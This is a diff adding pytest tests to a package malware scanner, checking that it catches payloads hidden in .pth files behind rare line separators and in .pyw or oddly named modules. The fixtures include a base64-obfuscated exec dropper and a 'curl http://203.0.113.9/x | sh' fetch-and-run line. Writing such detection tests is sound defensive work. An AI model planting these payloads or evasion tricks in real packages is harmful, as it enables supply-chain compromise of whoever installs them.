@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import ast
 from pathlib import Path
+
+import pytest
 
 from caplet._findings import Severity
 from caplet._scan._collect import installers
@@ -12,6 +15,7 @@ from caplet._scan._scanner import DEFAULT_MAX_FILE_BYTES, scan_tree
 ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
 PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(56)
 INSTALL_TIME_NETWORK = "import urllib.request\nurllib.request.urlopen('https://x.example/p')\n"
+DROPPER = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))\n'
 
 
 def write(root: Path, files: dict[str, bytes | str]) -> Path:
@@ -103,3 +107,36 @@ def test_a_native_executable_under_any_name_is_danger_in_a_plugin(tmp_path: Path
     # Package mode judges a tree by its names, as before (a package is large).
     package = scan_tree(root, mode=ScanMode.PACKAGE)
     assert not [f for f in package.findings if f.file == "helper.dat"]
+
+
+@pytest.mark.parametrize(
+    "separator", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"], ids=["vt", "ff", "fs", "nel", "ls"]
+)
+def test_a_pth_payload_behind_a_line_separator_python_reads_in_one_line(
+    tmp_path: Path, separator: str
+) -> None:
+    # Attack (scanfuzz): site execs each line of a .pth read as a text file, split at
+    # "\n" and "\r" only; str.splitlines also split at these, so the scanner saw a
+    # harmless `import os;x="` and a "line" not starting with import: clean.
+    line = f'import os;x="{separator}";os.system("curl http://203.0.113.9/x | sh")\n'
+    assert len(ast.parse(line).body) == 3  # what site's exec(line) runs: all of it
+    (tmp_path / "evil.pth").write_text(line, encoding="utf-8")
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    [pth] = [f for f in report.uncovered_dangers() if f.rule_id == "CPL-THR-013"]
+    assert (pth.file, pth.line) == ("evil.pth", 1)
+
+
+@pytest.mark.parametrize("name", ["evil.pyw", "evil.PY", "evil.Pyw", "evil.py.", "evil.py "])
+def test_a_source_windows_imports_is_scanned(tmp_path: Path, name: str) -> None:
+    # Attack (scanfuzz): Windows imports .pyw (importlib.machinery.SOURCE_SUFFIXES there),
+    # matches names without regard to case and drops trailing dots and spaces; such a
+    # module beside `import evil` was never read and the package came out clean.
+    (tmp_path / "__init__.py").write_text("import evil\n")
+    (tmp_path / name).write_text(DROPPER)
+    report = scan_tree(tmp_path, mode=ScanMode.PACKAGE)
+    assert ("CPL-THR-001", name) in {(f.rule_id, f.file) for f in report.uncovered_dangers()}
+
+
+def test_a_type_stub_is_not_read_as_code(tmp_path: Path) -> None:
+    (tmp_path / "evil.pyi").write_text(DROPPER)  # never imported: stubs are for type checkers
+    assert scan_tree(tmp_path, mode=ScanMode.PACKAGE).findings == ()
